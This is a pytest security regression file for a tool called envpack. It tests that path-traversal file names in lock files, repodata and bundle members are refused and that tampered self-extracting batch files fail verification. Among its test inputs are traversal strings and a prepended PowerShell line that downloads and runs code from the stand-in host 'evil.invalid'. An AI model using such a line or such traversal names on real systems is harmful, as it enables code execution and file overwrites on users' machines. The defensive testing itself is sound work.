"""Names from outside never become paths outside the cache or the bundle (issue 13, items 1-3).

Each hostile input here was reproduced against envpack before the fix: a lock's ``fn`` or a
channel's repodata key with ``../`` wrote outside the cache, ``write_bundle`` accepted ``../x``
members, and ``verify`` passed a self-extracting file whose batch header had been changed.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
import yaml

from envpack.archive.write import write_bundle
from envpack.bundle.manifest import Entry
from envpack.errors import BundleError, LockError
from envpack.lock.record import LockedPackage
from envpack.names import file_name_problem, member_problem
from envpack.snapshot import verify_bundle

from conftest import run_cli, write_recipe
from http_server import ChannelServer

PRECIOUS = b"precious, must survive\n"


def files_under(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def victim(tmp_path: Path) -> Path:
    path = tmp_path / "victim.txt"
    path.write_bytes(PRECIOUS)
    return path


def lock_with_fn(recipe: Path, package: str, fn: str) -> Path:
    result = run_cli("lock", recipe)
    assert result.exit_code == 0, result.output
    lock_path = recipe.with_name(f"{recipe.stem}.lock.yaml")
    data = yaml.safe_load(lock_path.read_text())
    packages = data["platforms"]["win-64"]["packages"]
    target = next(p for p in packages if p["name"] == package)
    target["fn"] = fn
    lock_path.write_text(yaml.safe_dump(data, sort_keys=False))
    return lock_path


def test_lock_fn_with_dotdot_writes_nothing_outside_the_cache(
    recipe: Path, tmp_path: Path, cache_dir: Path
) -> None:
    # cache/pkgs/<sha256>/<fn>: three levels up from the sha folder is tmp_path itself.
    target = victim(tmp_path)
    lock_with_fn(recipe, "tool", "../../../victim.txt")
    result = run_cli("build", recipe, "--frozen", "-o", tmp_path / "dist")
    assert result.exit_code == 4, result.output
    assert target.read_bytes() == PRECIOUS
    line = result.stderr.strip()
    assert "\n" not in line
    assert "unsafe file name '../../../victim.txt'" in line
    assert "'tool'" in line
    assert not (tmp_path / "dist").exists()


@pytest.mark.parametrize(
    "fn",
    [
        "sub/tool.conda",
        "..\\..\\tool.conda",
        "/tmp/tool.conda",
        "C:tool.conda",
        "CON.conda",
        "tool.conda ",
        "tool\x07.conda",
        "..",
    ],
)
def test_lock_fn_shapes_refused(recipe: Path, tmp_path: Path, cache_dir: Path, fn: str) -> None:
    lock_with_fn(recipe, "tool", fn)
    before = files_under(tmp_path)
    result = run_cli("build", recipe, "--frozen", "-o", tmp_path / "dist")
    assert result.exit_code == 4, result.output
    assert "unsafe file name" in result.stderr
    created = files_under(tmp_path) - before
    assert not any(not c.startswith("cache") for c in created), created


def test_build_from_a_bundle_with_a_hostile_lock(
    recipe: Path, tmp_path: Path, cache_dir: Path
) -> None:
    result = run_cli("build", recipe, "-o", tmp_path / "dist", "--no-sfx")
    assert result.exit_code == 0, result.output
    good = tmp_path / "dist" / "demo-win-64.zip"
    bad = tmp_path / "bad-win-64.zip"
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(bad, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith("/envpack.json"):
                manifest = json.loads(data)
                pkg = next(p for p in manifest["lock"]["packages"] if p["name"] == "tool")
                pkg["fn"] = "../../../victim.txt"
                data = json.dumps(manifest).encode()
            zout.writestr(info, data)
    target = victim(tmp_path)
    assert verify_bundle(bad) != []
    result = run_cli("build", "--from", bad, "-o", tmp_path / "again")
    assert result.exit_code == 4, result.output
    assert "unsafe file name '../../../victim.txt'" in result.stderr
    assert target.read_bytes() == PRECIOUS
    assert not (tmp_path / "again").exists()


def test_repodata_key_with_dotdot_is_refused(
    channel_copy: Path, tmp_path: Path, cache_dir: Path
) -> None:
    repodata_path = channel_copy / "win-64" / "repodata.json"
    repodata = json.loads(repodata_path.read_text())
    table = repodata["packages.conda"]
    key = next(k for k in table if k.startswith("tool-2.0"))
    hostile = key.replace(".conda", "") + "/../../../../../ESC.conda"
    table[hostile] = table.pop(key)
    repodata_path.write_text(json.dumps(repodata))
    with ChannelServer(channel_copy) as server:
        recipe = write_recipe(tmp_path / "demo.yaml", [server.url], ["tool"])
        result = run_cli("build", recipe, "-o", tmp_path / "dist")
    assert result.exit_code in (3, 4), result.output
    assert "unsafe file name" in result.stderr
    assert not [p for p in tmp_path.rglob("ESC.conda")]
    assert not Path("/tmp/ESC.conda").exists() or Path("/tmp/ESC.conda").stat().st_size == 0
    assert not (tmp_path / "dist").exists()


@pytest.mark.parametrize("fmt", ["zip", "7z"])
@pytest.mark.parametrize(
    "member", ["../x", "/tmp/x", "..\\x", "a/../../x", "C:/x", "a/NUL", "a/b.", "a//b"]
)
def test_writers_refuse_unsafe_member_names(tmp_path: Path, fmt: str, member: str) -> None:
    entries = [Entry.from_bytes("ok.txt", b"ok"), Entry.from_bytes(member, b"evil")]
    with pytest.raises(BundleError, match="refusing bundle member"):
        write_bundle(tmp_path / "out", "demo", "demo", entries, 315532800, fmt=fmt)
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []
    assert not (tmp_path / "x").exists()


def test_one_judge_of_names() -> None:
    for good in ("tool-2.0-h1234_0.conda", "zlib-1.2.11-0.tar.bz2", "win-64", "noarch"):
        assert file_name_problem(good) is None
    assert file_name_problem("a/b") == "a path separator inside a file name"
    assert file_name_problem("a\\b") == "a path separator inside a file name"
    assert file_name_problem("..") == "'..' path component"
    assert file_name_problem("com1.txt") == "reserved Windows device name 'com1'"
    assert file_name_problem("LPT9") == "reserved Windows device name 'LPT9'"
    assert file_name_problem("x" * 256) == "longer than 255 bytes"
    assert member_problem("channel/win-64/x.conda") is None
    assert member_problem("channel/../x") == "'..' path component"
    assert member_problem("/x") == "absolute path"


def record(**change: object) -> dict[str, object]:
    base: dict[str, object] = {
        "name": "tool",
        "version": "1",
        "build": "0",
        "subdir": "win-64",
        "fn": "tool-1-0.conda",
        "url": "https://example.invalid/c/win-64/tool-1-0.conda",
        "sha256": "a" * 64,
        "md5": "b" * 32,
        "size": 1,
    }
    base.update(change)
    return base


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"subdir": "../win-64"}, "unsafe subdir '../win-64'"),
        ({"fn": "x/../../y.conda"}, "unsafe file name 'x/../../y.conda'"),
        ({"sha256": "zz"}, "sha256 'zz' is not 64 hex digits"),
        ({"md5": "0" * 31}, "is not 32 hex digits"),
        ({"size": -5}, "negative size -5"),
    ],
)
def test_lock_records_are_checked_when_read(change: dict[str, object], message: str) -> None:
    with pytest.raises(LockError, match="^some.lock: package 'tool': ") as info:
        LockedPackage.from_dict(record(**change), "some.lock")
    assert message in str(info.value)


def test_verify_names_a_changed_batch_header(recipe: Path, tmp_path: Path, cache_dir: Path) -> None:
    result = run_cli("build", recipe, "-o", tmp_path / "dist", "--sfx")
    assert result.exit_code == 0, result.output
    sfx = tmp_path / "dist" / "demo-win-64-setup.bat"
    assert verify_bundle(sfx) == []
    data = sfx.read_bytes()

    prepended = tmp_path / "prepended-setup.bat"
    prepended.write_bytes(b'@powershell -c "iwr http://evil.invalid/x | iex"\r\n' + data)
    problems = verify_bundle(prepended)
    assert any(p.startswith("batch header: ") for p in problems), problems

    with zipfile.ZipFile(sfx) as zf:
        header_len = zf.infolist()[0].header_offset
    inserted = tmp_path / "inserted-setup.bat"
    inserted.write_bytes(data[:header_len] + b"\r\nstart evil.exe\r\n" + data[header_len:])
    problems = verify_bundle(inserted)
    assert any("batch header" in p for p in problems), problems

    # Same length, one command changed: only the hash can tell.
    header = data[:header_len]
    idx = header.index(b"exit /b")
    same_size = tmp_path / "same-size-setup.bat"
    same_size.write_bytes(header[:idx] + b"EXIT /B" + header[idx + 7 :] + data[header_len:])
    problems = verify_bundle(same_size)
    assert problems == [
        "batch header: its sha256 differs from the manifest (the script was changed: do not run it)"
    ]


def test_verify_catches_a_same_size_edit_of_setup_bat(
    recipe: Path, tmp_path: Path, cache_dir: Path
) -> None:
    result = run_cli("build", recipe, "-o", tmp_path / "dist", "--no-sfx")
    assert result.exit_code == 0, result.output
    good = tmp_path / "dist" / "demo-win-64.zip"
    bad = tmp_path / "bad.zip"
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(bad, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "demo/setup.bat":
                assert b"EP_RC=7" in data
                data = data.replace(b"EP_RC=7", b"EP_RC=0", 1)
            zout.writestr(info, data)
    assert verify_bundle(bad) == [
        "setup.bat: sha256 differs from the manifest (changed or corrupt)"
    ]
